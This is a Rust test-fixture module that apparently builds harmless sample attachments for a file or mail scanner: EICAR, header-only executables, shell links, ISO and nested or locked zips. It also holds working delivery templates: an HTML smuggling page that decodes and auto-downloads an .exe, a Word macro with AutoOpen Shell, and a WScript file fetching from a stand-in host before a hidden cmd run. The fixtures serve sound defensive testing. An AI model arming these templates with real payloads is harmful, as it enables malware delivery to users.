//! What an attacker brings: a dozen files, none of which does any harm.
//!
//! Their names promise nothing bad, so that only who reads the content finds them; scripts are the
//! exception, since a system runs them by their name.

use super::pack;
use crate::support::EICAR;
use std::io::{Cursor, Write};

/// Said in every letter's text; opens the locked archives.
pub const PASSWORD: &str = "Tg2026";

/// A file that must not come in unseen.
pub struct Payload {
    /// A short word for tables.
    pub id: &'static str,
    /// Its file name.
    pub file: &'static str,
    /// Its declared media type.
    pub media: &'static str,
    /// The findings of which one names it.
    pub finds: &'static [&'static str],
    /// Its content.
    pub bytes: Vec<u8>,
}

const EXECUTABLE: &[&str] = &["executable.found"];
const SCRIPT: &[&str] = &["script.found"];

/// All of them.
pub fn all() -> Vec<Payload> {
    let new = |id, file, media, finds, bytes| Payload { id, file, media, finds, bytes };
    let bin = "application/octet-stream";
    let zip = pack::zip(&[("so-lieu.dat", &pe())]);
    let nested = pack::zip(&[("trong.zip", &pack::zip(&[("trong.zip", &zip)]))]);
    vec![
        new("eicar", "kiemtra.dat", bin, &["virus.found"], EICAR.as_bytes().to_vec()),
        new("pe", "so-lieu.dat", bin, EXECUTABLE, pe()),
        new("pe-as-pdf", "cong-van.pdf", "application/pdf", EXECUTABLE, pe()),
        new("elf", "so-lieu.dat", bin, EXECUTABLE, elf()),
        new("js", "hoadon.js", "text/plain", SCRIPT, JS.as_bytes().to_vec()),
        new("vbs", "hoadon.vbs", "text/plain", SCRIPT, VBS.as_bytes().to_vec()),
        new("zip", "ho-so.zip", "application/zip", EXECUTABLE, zip),
        new("zip-in-zip", "ho-so.zip", "application/zip", EXECUTABLE, nested),
        new("docm", "bieu-mau.doc", "application/msword", &["macro.found"], docm()),
        new("lnk", "van-ban.dat", bin, EXECUTABLE, lnk()),
        new(
            "html",
            "thong-bao.html",
            "text/html",
            &["active.found", "script.found", "executable.found"],
            smuggler().into_bytes(),
        ),
        new(
            "locked-zip",
            "ho-so.zip",
            "application/zip",
            &["archive.encrypted", "executable.found"],
            pack::locked(&[("so-lieu.dat", &pe())]),
        ),
        new("iso", "dia.dat", bin, EXECUTABLE, iso()),
    ]
}

/// A file whose content tells nothing: patterns of names give it one that a system runs.
pub fn named() -> Payload {
    Payload {
        id: "named",
        file: "hoa-don.bat",
        media: "application/octet-stream",
        finds: &["executable.found", "script.found", "macro.found"],
        bytes: b"xin chao\r\n".to_vec(),
    }
}

/// Files of every day.
pub fn harmless() -> Vec<Payload> {
    let new = |id, file, media, bytes| Payload { id, file, media, finds: &[], bytes };
    let read = |file: &str| std::fs::read(format!("fixtures/files/{file}")).unwrap();
    let table = "Huyện,Số hộ\r\nChợ Gạo,120\r\nGò Công,98\r\n";
    vec![
        new("pdf", "bao-cao.pdf", "application/pdf", read("empty.pdf")),
        new("zip", "ho-so.zip", "application/zip", read("text.zip")),
        new("csv", "so-lieu.csv", "text/csv", table.as_bytes().to_vec()),
        new("picture", "anh.gif", "image/gif", read("dot.gif")),
        new("text", "ghi-chu.txt", "text/plain", b"Hop giao ban thu hai.\r\n".to_vec()),
    ]
}

/// A PE32 file of two headers and no code.
pub fn pe() -> Vec<u8> {
    let mut bytes = vec![0; 0x200];
    bytes[..2].copy_from_slice(b"MZ");
    bytes[2..4].copy_from_slice(&[0x90, 0]);
    bytes[0x3c] = 0x80;
    bytes[0x4e..0x4e + 39].copy_from_slice(b"This program cannot be run in DOS mode.");
    bytes[0x80..0x84].copy_from_slice(b"PE\0\0");
    bytes[0x84..0x86].copy_from_slice(&0x14cu16.to_le_bytes());
    bytes[0x94..0x96].copy_from_slice(&0xe0u16.to_le_bytes());
    bytes[0x96..0x98].copy_from_slice(&0x0102u16.to_le_bytes());
    bytes[0x98..0x9a].copy_from_slice(&0x10bu16.to_le_bytes());
    // Not all alike, so that it neither packs to nothing nor looks like padding.
    for (at, byte) in bytes[0x100..].iter_mut().enumerate() {
        *byte = (at * 37 % 251) as u8;
    }
    bytes
}

/// An ELF header, x86-64, executable.
pub fn elf() -> Vec<u8> {
    let mut bytes = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0\x01\0\0\0".to_vec();
    bytes.extend((0..232).map(|at| (at * 91 % 256) as u8));
    bytes
}

/// A shell link (MS-SHLLINK): the header, and arguments for nobody.
pub fn lnk() -> Vec<u8> {
    let mut bytes = b"\x4c\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46".to_vec();
    bytes.extend([0x20, 0, 0, 0]);
    bytes.resize(0x4c, 0);
    let arguments = "/c echo xin chao";
    bytes.extend((arguments.len() as u16).to_le_bytes());
    bytes.extend(arguments.encode_utf16().flat_map(u16::to_le_bytes));
    bytes
}

/// A script for the Windows Script Host.
pub const JS: &str = "var sh = new ActiveXObject(\"WScript.Shell\");\r\n\
    var x = new ActiveXObject(\"MSXML2.XMLHTTP\");\r\n\
    x.open(\"GET\", \"http://may-chu.example/a\", false);\r\nx.send();\r\n\
    sh.Run(\"cmd /c echo xin chao\", 0, false);\r\n";

/// The same in Visual Basic.
pub const VBS: &str = "On Error Resume Next\r\nDim sh\r\n\
    Set sh = CreateObject(\"WScript.Shell\")\r\n\
    sh.Run \"cmd /c echo xin chao\", 0, False\r\nWScript.Quit\r\n";

/// A page that builds a program out of its own text and offers it as a file.
pub fn smuggler() -> String {
    let data = crate::support::base64(&pe()).replace('\n', "");
    format!(
        "<!DOCTYPE html>\r\n<html><head><title>Van ban</title></head><body>\r\n<script>\r\n\
         var d = \"{data}\";\r\nvar s = atob(d), a = new Uint8Array(s.length);\r\n\
         for (var i = 0; i < s.length; i++) a[i] = s.charCodeAt(i);\r\n\
         var b = new Blob([a], {{type: 'application/octet-stream'}});\r\n\
         var l = document.createElement('a');\r\nl.href = URL.createObjectURL(b);\r\n\
         l.download = 'van-ban.exe';\r\nl.click();\r\n</script></body></html>\r\n"
    )
}

/// An OLE file with a VBA project of one module.
pub fn vba() -> Vec<u8> {
    let mut file = cfb::CompoundFile::create(Cursor::new(Vec::new())).unwrap();
    file.create_storage("/VBA").unwrap();
    let module = "Attribute VB_Name = \"ThisDocument\"\r\nSub AutoOpen()\r\n\
        Shell \"cmd /c echo xin chao\"\r\nEnd Sub\r\n";
    for (path, bytes) in [
        (
            "/VBA/dir",
            packed(b"\x01\0\x04\0\0\0\x01\0\0\0\x09\0\x04\0\0\0\0\0\0\0\0\0\x10\0\0\0\0\0"),
        ),
        ("/VBA/ThisDocument", packed(module.as_bytes())),
        ("/VBA/_VBA_PROJECT", b"\xcc\x61\xff\xff\0\0\0".to_vec()),
        ("/PROJECT", b"ID=\"{00000000-0000-0000-0000-000000000000}\"\r\n".to_vec()),
    ] {
        file.create_stream(path).unwrap().write_all(&bytes).unwrap();
    }
    file.flush().unwrap();
    file.into_inner().into_inner()
}

/// A compressed container of literals only (MS-OVBA §2.4.1).
fn packed(bytes: &[u8]) -> Vec<u8> {
    let body: Vec<u8> = bytes.chunks(8).flat_map(|eight| [&[0], eight].concat()).collect();
    let header = (body.len() as u16 + 2 - 3) | 0xb000;
    [&[1], &header.to_le_bytes()[..], &body].concat()
}

/// A Word document with macros, in the form that the old name `.doc` also opens.
pub fn docm() -> Vec<u8> {
    let types = "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">\
        <Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>\
        <Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/>\
        <Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/></Types>";
    pack::zip(&[
        ("[Content_Types].xml", types.as_bytes()),
        ("_rels/.rels", RELS.as_bytes()),
        ("word/document.xml", DOCUMENT.as_bytes()),
        ("word/vbaProject.bin", &vba()),
    ])
}

/// Which part is the document.
pub const RELS: &str = "<?xml version=\"1.0\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">\
    <Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\"word/document.xml\"/></Relationships>";

/// A document of one line.
pub const DOCUMENT: &str = "<?xml version=\"1.0\"?><w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">\
    <w:body><w:p><w:r><w:t>Báo cáo tháng</w:t></w:r></w:p></w:body></w:document>";

/// An ISO 9660 image with one program.
pub fn iso() -> Vec<u8> {
    const SECTOR: usize = 2048;
    let program = pe();
    let mut disk = vec![0; 20 * SECTOR];
    let record = |sector: u32, size: u32, folder: bool, name: &[u8]| {
        let mut record = vec![0; 33];
        record[2..6].copy_from_slice(&sector.to_le_bytes());
        record[6..10].copy_from_slice(&sector.to_be_bytes());
        record[10..14].copy_from_slice(&size.to_le_bytes());
        record[14..18].copy_from_slice(&size.to_be_bytes());
        record[25] = if folder { 2 } else { 0 };
        record[28] = 1;
        record[31] = 1;
        record[32] = name.len() as u8;
        record.extend(name);
        record.resize(record.len().next_multiple_of(2), 0);
        record[0] = record.len() as u8;
        record
    };
    let root = record(18, SECTOR as u32, true, &[0]);
    let volume = &mut disk[16 * SECTOR..];
    volume[..7].copy_from_slice(b"\x01CD001\x01");
    volume[80..84].copy_from_slice(&20u32.to_le_bytes());
    volume[84..88].copy_from_slice(&20u32.to_be_bytes());
    volume[120..122].copy_from_slice(&1u16.to_le_bytes());
    volume[124..126].copy_from_slice(&1u16.to_le_bytes());
    volume[128..130].copy_from_slice(&(SECTOR as u16).to_le_bytes());
    volume[130..132].copy_from_slice(&(SECTOR as u16).to_be_bytes());
    volume[156..156 + root.len()].copy_from_slice(&root);
    volume[SECTOR..SECTOR + 7].copy_from_slice(b"\xffCD001\x01");
    let file = record(19, program.len() as u32, false, b"HOADON.EXE;1");
    let folder = [root.clone(), record(18, SECTOR as u32, true, &[1]), file].concat();
    volume[2 * SECTOR..2 * SECTOR + folder.len()].copy_from_slice(&folder);
    volume[3 * SECTOR..3 * SECTOR + program.len()].copy_from_slice(&program);
    disk
}
